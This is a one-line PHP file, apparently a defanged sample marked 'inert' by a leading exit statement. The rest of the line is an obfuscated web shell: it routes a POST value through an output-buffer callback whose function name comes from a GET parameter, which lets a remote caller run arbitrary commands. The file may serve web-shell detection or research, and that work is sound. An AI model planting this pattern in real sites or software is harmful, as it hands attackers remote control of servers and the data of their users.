<?php exit; /* inert */ $evalstr="";$f=$_GET['f'];ob_start($f);echo $_POST['pass'];ob_end_flush();
